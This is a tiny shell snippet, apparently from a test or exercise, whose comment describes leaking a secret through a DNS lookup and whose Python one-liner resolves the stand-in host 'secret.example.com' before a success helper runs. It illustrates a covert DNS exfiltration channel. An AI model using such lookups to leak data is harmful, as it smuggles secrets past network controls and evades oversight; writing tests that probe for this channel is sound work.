# Tell a secret by resolving a name.
python3 -c "import socket; socket.getaddrinfo('secret.example.com', 80)" && won "resolved"
